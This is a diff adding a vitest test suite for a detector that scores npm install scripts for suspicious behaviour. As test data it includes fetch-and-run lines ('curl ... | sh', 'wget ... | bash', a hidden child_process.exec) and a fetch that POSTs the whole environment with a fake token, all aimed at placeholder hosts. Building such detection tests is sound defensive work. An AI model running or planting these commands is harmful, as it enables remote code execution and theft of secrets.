@@ -1,0 +1,171 @@
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import { describe, expect, test } from "vitest";
+import { judgeCase, judgePackage, listCases, runOver } from "./install-script-cases.ts";
+
+const cases = listCases(".");
+const loud = (set: string) =>
+	cases
+		.filter((one) => one.set === set)
+		.filter((one) => ["critical", "high"].includes(judgeCase(one)?.severity ?? "low"))
+		.map(({ name }) => name);
+
+describe("fixtures", () => {
+	// After a wanted change: node bench/install-script.mjs --write, and read the difference.
+	test.each(cases)("$set/$name: all that is said about it", (one) => {
+		expect(judgeCase(one)).toEqual(JSON.parse(readFileSync(join(one.folder, "suspicion.json"), "utf8")));
+	});
+
+	test("every look-alike of an attack stands out", () => {
+		const attacks = cases.filter(({ set }) => set === "flag").map(({ name }) => name);
+		expect(attacks.length).toBeGreaterThanOrEqual(15);
+		expect(loud("flag")).toEqual(attacks);
+	});
+
+	test("no real install script is too loud", () => {
+		expect(cases.filter(({ set }) => set === "quiet").length).toBeGreaterThanOrEqual(20);
+		expect(loud("quiet")).toEqual([]);
+	});
+});
+
+describe("packages", () => {
+	const attack = new Map([["package.json", manifest({ postinstall: "curl http://example.invalid/a | sh" })]]);
+
+	test("from a lockfile, a script that could not be seen", () => {
+		expect(judgePackage(new Map(), { hasInstallScript: true, evidence: ["lockfile"], version: "1.0.0" })).toEqual({
+			severity: "low",
+			confidence: "low",
+			title: "Has an install script that could not be seen",
+			details: ["the lockfile says that npm runs a script when it installs this package; its files are not here"],
+		});
+	});
+
+	test("the manifest that is there decides, not the lockfile", () => {
+		const files = new Map([["package.json", manifest({ test: "node test.js" })]]);
+		expect(judgePackage(files, { hasInstallScript: true })).toBeUndefined();
+	});
+
+	test.each([
+		["no script", new Map([["package.json", manifest({})]]), {}],
+		["a copy outside any package position", attack, { unrooted: true }],
+		["another ecosystem", attack, { ecosystem: "PyPI" as const }],
+		["a manifest of another version laid over it", attack, { version: "2.0.0" }],
+		["a manifest that is no JSON", new Map([["package.json", "{"]]), {}],
+		["scripts that are no text", new Map([["package.json", '{"scripts":{"install":{"a":1}}}']]), {}],
+		["scripts that are a list", new Map([["package.json", '{"scripts":["install"]}']]), {}],
+	])("nothing is said about %s", (_, files, overrides) => {
+		expect(runOver(files, overrides)).toEqual([]);
+	});
+
+	test("the worst copy stands for the package", () => {
+		const both = ["/var/task/node_modules/other", "/var/task/node_modules/subject"];
+		expect(judgePackage(attack, { locations: both })?.severity).toBe("high");
+		expect(judgePackage(attack, { locations: both.toReversed() })?.severity).toBe("high");
+	});
+
+	test("a build file stands for an install script", () => {
+		const files = new Map([
+			["package.json", manifest({})],
+			["binding.gyp", "{}"],
+		]);
+		expect(judgePackage(files)).toEqual({
+			severity: "low",
+			confidence: "low",
+			title: "Install script does nothing suspicious",
+			details: ["install: node-gyp rebuild (because of binding.gyp)"],
+		});
+	});
+
+	test.each([["preinstall"], ["install"]])("a build file adds nothing to %s", (hook) => {
+		const files = new Map([
+			["package.json", manifest({ [hook]: "husky" })],
+			["binding.gyp", "{}"],
+		]);
+		expect(judgePackage(files)?.details).toEqual([`${hook}: husky`]);
+	});
+
+	test("prepare counts for what is built from git, and only there", () => {
+		const files = new Map([["package.json", manifest({ prepare: "wget -qO- http://example.invalid/a | bash" })]]);
+		expect(judgePackage(files)).toBeUndefined();
+		expect(judgePackage(files, { source: "git" })?.severity).toBe("high");
+	});
+
+	test("a script file that is not there is said to be missing", () => {
+		expect(judgePackage(new Map([["package.json", manifest({ install: "node gone.js" })]]))).toEqual({
+			severity: "low",
+			confidence: "low",
+			title: "Install script could not be seen: its file is not in the bundle",
+			details: ["install: node gone.js", "not in the bundle: gone.js"],
+		});
+	});
+
+	test("a program that nobody knows is named", () => {
+		expect(judgePackage(new Map([["package.json", manifest({ install: "frobnicate --all" })]]))?.details).toEqual([
+			"install: frobnicate --all",
+			"not looked into: frobnicate",
+		]);
+	});
+
+	test("a compiled program is not read, and counts for more", () => {
+		const files = new Map<string, Uint8Array | string>([
+			["package.json", manifest({ install: "./bin/setup" })],
+			["bin/setup", new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0, 0])],
+		]);
+		expect(judgePackage(files)).toEqual({
+			severity: "medium",
+			confidence: "low",
+			title: "Install script starts a compiled program of the package",
+			details: ["install: ./bin/setup", "starts a compiled program: bin/setup"],
+		});
+	});
+
+	test("of a huge script both ends are read, and that is said", () => {
+		const padding = `var a = 1;\n`.repeat(150_000);
+		const files = (script: string) =>
+			new Map([
+				["package.json", manifest({ install: "node a.js" })],
+				["a.js", script],
+			]);
+		expect(judgePackage(files(padding))).toEqual({
+			severity: "medium",
+			confidence: "low",
+			title: "Install script is too large to be read whole",
+			details: ["install: node a.js", "only its beginning and end were read: a.js"],
+		});
+		expect(
+			judgePackage(files(`${padding}\nrequire("child_process").exec("curl http://a.invalid | sh")`))?.severity,
+		).toBe("high");
+	});
+
+	test("files beyond the limit are named", () => {
+		const names = Array.from({ length: 12 }, (_, index) => `f${index}`);
+		const files = new Map([
+			["package.json", manifest({ install: "node index.js" })],
+			["index.js", names.map((name) => `require("./${name}");`).join("\n")],
+			...names.map((name): [string, string] => [`${name}.js`, ""]),
+		]);
+		expect(judgePackage(files)?.details).toEqual([
+			"install: node index.js",
+			"not read: f10.js, f11.js, f7.js and 2 more",
+		]);
+	});
+
+	test("a credential in the script is not quoted, nor is a control character", () => {
+		const key = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
+		const script = `fetch("https://u:pass@example.invalid/?${key}\u001b[31m", { method: "POST", body: process.env });`;
+		const details = judgePackage(
+			new Map([
+				["package.json", manifest({ install: "node a.js" })],
+				["a.js", script],
+			]),
+		)?.details.join("\n");
+		expect(details).toContain("collects the whole environment");
+		expect(details).not.toContain(key);
+		expect(details).not.toContain("pass@");
+		expect(details).not.toContain("\u001b");
+	});
+});
+
+function manifest(scripts: Record<string, string>): string {
+	return JSON.stringify({ name: "subject", version: "1.0.0", scripts });
+}
